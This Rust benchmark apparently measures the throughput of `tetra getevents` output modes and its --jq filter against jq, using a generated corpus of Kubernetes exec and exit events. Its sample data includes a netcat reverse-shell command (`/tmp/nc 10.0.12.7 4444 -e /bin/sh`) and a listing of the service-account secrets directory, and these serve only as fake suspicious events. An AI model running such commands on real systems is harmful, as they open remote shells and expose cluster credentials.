//! How fast `tetra getevents` reads JSON events from a pipe: the same
//! generated corpus (200,000 realistic events by default, about 1.5 KB of
//! JSON each: exec and exit events with process, parent and pod blocks)
//! piped through `tetra getevents -o compact`, `-o json`, `--jq '<select
//! program>'`, and `jq -c '<same program>'`, side by side in one run.
//! Prints events/s and MB/s of input for each, and the ratios the issue
//! sets as targets (compact >= 200 MB/s; --jq >= 3x jq).
//!
//! Build release binaries first, then run:
//!
//!     cargo build --release -p tetra -p tetragon-bench
//!     ./target/release/tetra-throughput [EVENTS] [RUNS] [CORPUS]
//!
//! With CORPUS, the generated events are written there and kept (to
//! profile one command by hand); otherwise to a temporary file.
//! Each command runs RUNS times (default 3), interleaved; the best run
//! counts (the least disturbed by other work on the machine).

use std::{
    fs::File,
    io::{BufWriter, Read, Write},
    path::Path,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail};
use base64::Engine;
use serde_json::{Value, json};
use tetragon_e2e::binary;

/// The recipe of the documents: execs from /tmp, one line each.
const JQ_PROGRAM: &str = r#"select(.process_exec != null) | select(.process_exec.process.binary | contains("/tmp/")) | "\(.time) \(.process_exec.process.pod.namespace) \(.process_exec.process.pod.name) \(.process_exec.process.binary) \(.process_exec.process.arguments)""#;

const COMPACT_TARGET_MBS: f64 = 200.0;
const JQ_TARGET_RATIO: f64 = 3.0;

struct Workload {
    name: &'static str,
    program: String,
    args: Vec<String>,
}

fn main() -> Result<()> {
    let mut argv = std::env::args().skip(1);
    let events: usize = argv
        .next()
        .map(|a| a.parse())
        .transpose()?
        .unwrap_or(200_000);
    let runs: usize = argv.next().map(|a| a.parse()).transpose()?.unwrap_or(3);
    if Command::new("jq").arg("--version").output().is_err() {
        bail!("jq is not on PATH: install it (apt-get install jq) to compare");
    }
    let tetra = binary("tetra").display().to_string();
    let jq_version = String::from_utf8_lossy(&Command::new("jq").arg("--version").output()?.stdout)
        .trim()
        .to_string();

    let dir = tempfile::tempdir()?;
    let corpus = argv
        .next()
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| dir.path().join("events.json"));
    let (bytes, execs_in_tmp) = write_corpus(&corpus, events)?;
    println!(
        "corpus: {events} events, {:.1} MB, {:.0} bytes/event; {execs_in_tmp} execs from /tmp/",
        bytes as f64 / 1e6,
        bytes as f64 / events as f64
    );

    let workloads = [
        Workload {
            name: "tetra getevents -o compact",
            program: tetra.clone(),
            args: vec!["getevents".into(), "-o".into(), "compact".into()],
        },
        Workload {
            name: "tetra getevents -o json",
            program: tetra.clone(),
            args: vec!["getevents".into(), "-o".into(), "json".into()],
        },
        Workload {
            name: "tetra getevents --jq <select>",
            program: tetra.clone(),
            args: vec!["getevents".into(), "--jq".into(), JQ_PROGRAM.into()],
        },
        Workload {
            name: "jq -c <select>",
            program: "jq".into(),
            args: vec!["-c".into(), JQ_PROGRAM.into()],
        },
    ];

    check_same_output(&workloads[2], &workloads[3], &corpus)?;

    let mut best = vec![Duration::MAX; workloads.len()];
    for run in 1..=runs {
        for (i, w) in workloads.iter().enumerate() {
            let took = time_through_pipe(w, &corpus)?;
            eprintln!(
                "run {run}/{runs}: {:<32} {:>8.3}s",
                w.name,
                took.as_secs_f64()
            );
            best[i] = best[i].min(took);
        }
    }

    println!(
        "\n{:<32} {:>9} {:>12} {:>10}",
        "COMMAND", "SECONDS", "EVENTS/S", "MB/S"
    );
    let mbs: Vec<f64> = best
        .iter()
        .map(|d| bytes as f64 / 1e6 / d.as_secs_f64())
        .collect();
    for (i, w) in workloads.iter().enumerate() {
        println!(
            "{:<32} {:>9.3} {:>12.0} {:>10.1}",
            w.name,
            best[i].as_secs_f64(),
            events as f64 / best[i].as_secs_f64(),
            mbs[i]
        );
    }
    let jq_ratio = mbs[2] / mbs[3];
    println!(
        "\ncompact: {:.1} MB/s of input on one core (target {COMPACT_TARGET_MBS:.0} MB/s): {}",
        mbs[0],
        verdict(mbs[0] >= COMPACT_TARGET_MBS)
    );
    println!(
        "--jq vs {jq_version} on the same program and input: {jq_ratio:.2}x (target {JQ_TARGET_RATIO:.0}x): {}",
        verdict(jq_ratio >= JQ_TARGET_RATIO)
    );
    println!(
        "json vs compact: {:.2}x the time",
        best[1].as_secs_f64() / best[0].as_secs_f64()
    );
    Ok(())
}

fn verdict(met: bool) -> &'static str {
    if met { "met" } else { "NOT met" }
}

/// Pipes the corpus into the command (a writer thread feeds the pipe, as
/// `cat events.json | ...` would) and waits; output goes to /dev/null.
fn time_through_pipe(w: &Workload, corpus: &Path) -> Result<Duration> {
    run_through_pipe(w, corpus, Stdio::from(File::create("/dev/null")?)).map(|(d, _)| d)
}

fn run_through_pipe(w: &Workload, corpus: &Path, stdout: Stdio) -> Result<(Duration, Vec<u8>)> {
    let mut file = File::open(corpus)?;
    let start = Instant::now();
    let mut child = Command::new(&w.program)
        .args(&w.args)
        .stdin(Stdio::piped())
        .stdout(stdout)
        .stderr(Stdio::piped())
        .spawn()
        .with_context(|| format!("starting {}", w.name))?;
    let mut stdin = child.stdin.take().context("stdin")?;
    let feeder = std::thread::spawn(move || -> std::io::Result<()> {
        let mut buf = vec![0u8; 1 << 20];
        loop {
            let n = file.read(&mut buf)?;
            if n == 0 {
                return Ok(());
            }
            stdin.write_all(&buf[..n])?;
        }
    });
    let mut out = Vec::new();
    if let Some(mut s) = child.stdout.take() {
        s.read_to_end(&mut out)?;
    }
    let result = child.wait_with_output()?;
    let took = start.elapsed();
    feeder
        .join()
        .map_err(|_| anyhow::anyhow!("the feeder thread panicked"))??;
    if !result.status.success() {
        bail!(
            "{} failed ({}): {}",
            w.name,
            result.status,
            String::from_utf8_lossy(&result.stderr)
        );
    }
    Ok((took, out))
}

/// The two must print the same bytes (checked on a slice of the corpus,
/// outside the timed runs).
fn check_same_output(a: &Workload, b: &Workload, corpus: &Path) -> Result<()> {
    let slice =
        std::env::temp_dir().join(format!("tetra-throughput-{}.head.json", std::process::id()));
    let head: String = std::io::BufRead::lines(std::io::BufReader::new(File::open(corpus)?))
        .take(5000)
        .map(|l| l.map(|l| l + "\n"))
        .collect::<std::io::Result<_>>()?;
    std::fs::write(&slice, head)?;
    let (_, out_a) = run_through_pipe(a, &slice, Stdio::piped())?;
    let (_, out_b) = run_through_pipe(b, &slice, Stdio::piped())?;
    let _ = std::fs::remove_file(&slice);
    if out_a != out_b {
        bail!("`{}` and `{}` print different output", a.name, b.name);
    }
    if out_a.is_empty() {
        bail!("the program selects nothing from the corpus");
    }
    println!(
        "check: `{}` and `{}` print the same {} bytes for the first 5000 events",
        a.name,
        b.name,
        out_a.len()
    );
    Ok(())
}

/// Writes `n` events, one a line; returns the bytes written and how many
/// execs are of binaries under /tmp/.
fn write_corpus(path: &Path, n: usize) -> Result<(u64, usize)> {
    let mut out = BufWriter::with_capacity(1 << 20, File::create(path)?);
    let mut bytes = 0u64;
    let mut in_tmp = 0;
    let mut rng = 0x2545_f491_4f6c_dd1du64;
    for i in 0..n {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        let ev = event(i, rng);
        if ev["process_exec"]["process"]["binary"]
            .as_str()
            .is_some_and(|b| b.contains("/tmp/"))
        {
            in_tmp += 1;
        }
        let line = ev.to_string();
        bytes += line.len() as u64 + 1;
        out.write_all(line.as_bytes())?;
        out.write_all(b"\n")?;
    }
    out.flush()?;
    Ok((bytes, in_tmp))
}

const NODE: &str = "kind-control-plane";
const BINARIES: &[(&str, &str)] = &[
    (
        "/usr/bin/curl",
        "-s -o /dev/null https://api.internal.example.com/healthz",
    ),
    (
        "/bin/sh",
        "-c /usr/local/bin/entrypoint.sh --config /etc/app/config.yaml",
    ),
    (
        "/usr/bin/python3",
        "/app/manage.py runworker --queue default --concurrency 4",
    ),
    ("/usr/local/bin/node", "/srv/app/dist/server.js --port 8080"),
    ("/usr/bin/cat", "/etc/hostname"),
    ("/tmp/nc", "10.0.12.7 4444 -e /bin/sh"),
    ("/usr/sbin/nginx", "-g daemon off;"),
    (
        "/usr/bin/ls",
        "-la /var/run/secrets/kubernetes.io/serviceaccount",
    ),
];
const PODS: &[(&str, &str, &str)] = &[
    ("default", "xwing-6c8f9d7b5-2kqzp", "spaceship"),
    ("payments", "checkout-api-7d9c5f6b8-vx7lm", "api"),
    (
        "monitoring",
        "prometheus-node-exporter-8mfgk",
        "node-exporter",
    ),
    ("kube-system", "coredns-5d78c9869d-9xkwz", "coredns"),
];

fn exec_id(pid: u64, ktime: u64) -> String {
    base64::engine::general_purpose::STANDARD.encode(format!("{NODE}:{ktime}:{pid}"))
}

fn time(ns: u64) -> String {
    let secs = 1_730_400_000 + ns / 1_000_000_000;
    let t = chrono::DateTime::from_timestamp(secs as i64, (ns % 1_000_000_000) as u32)
        .unwrap_or_default();
    t.to_rfc3339_opts(chrono::SecondsFormat::Nanos, true)
}

fn pod(ns: &str, name: &str, container: &str, r: u64) -> Value {
    let workload = name.rsplitn(3, '-').last().unwrap_or(name);
    json!({
        "namespace": ns,
        "name": name,
        "container": {
            "id": format!("containerd://{:016x}{:016x}", r, r.rotate_left(7)),
            "name": container,
            "image": {
                "id": format!("docker.io/{ns}/{container}@sha256:{:016x}", r.rotate_left(3)),
                "name": format!("docker.io/{ns}/{container}:v1.{}", r % 10),
            },
            "start_time": time(r % 1_000_000_000),
            "pid": 1 + r % 400,
        },
        "pod_labels": {
            "app.kubernetes.io/name": workload,
            "pod-template-hash": format!("{:x}", r % 0xffff_ffff),
        },
        "workload": workload,
        "workload_kind": "Deployment",
    })
}

fn process(
    pid: u64,
    ktime: u64,
    binary: &str,
    args: &str,
    pod: &Value,
    parent: Option<(u64, u64)>,
) -> Value {
    let mut p = json!({
        "exec_id": exec_id(pid, ktime),
        "pid": pid,
        "uid": if pid.is_multiple_of(3) { 0 } else { 1000 },
        "cwd": "/srv/app",
        "binary": binary,
        "arguments": args,
        "flags": "execve clone",
        "start_time": time(ktime),
        "auid": 4294967295u32,
        "pod": pod,
        "docker": pod["container"]["id"].as_str().unwrap_or("").trim_start_matches("containerd://").chars().take(31).collect::<String>(),
        "tid": pid,
    });
    if let Some((ppid, pktime)) = parent {
        p["parent_exec_id"] = json!(exec_id(ppid, pktime));
    }
    p
}

/// Event `i`: execs and exits, alternating, in a handful of pods.
fn event(i: usize, r: u64) -> Value {
    let (binary, args) = BINARIES[(r % BINARIES.len() as u64) as usize];
    let (ns, name, container) = PODS[(r >> 8) as usize % PODS.len()];
    let pod = pod(ns, name, container, r >> 16);
    let pid = 10_000 + (i as u64 * 7) % 4_000_000;
    let ktime = 1_000_000_000 + i as u64 * 12_345;
    let (ppid, pktime) = (pid - 1, ktime - 5_000);
    let proc_ = process(pid, ktime, binary, args, &pod, Some((ppid, pktime)));
    let parent = process(
        ppid,
        pktime,
        "/bin/bash",
        "-c run.sh",
        &pod,
        Some((1, 1_000)),
    );
    let at = time(ktime + 777);
    if i.is_multiple_of(2) {
        json!({"process_exec": {"process": proc_, "parent": parent}, "node_name": NODE, "time": at})
    } else {
        json!({"process_exit": {"process": proc_, "parent": parent, "status": (r % 3) as u32, "time": at}, "node_name": NODE, "time": at})
    }
}
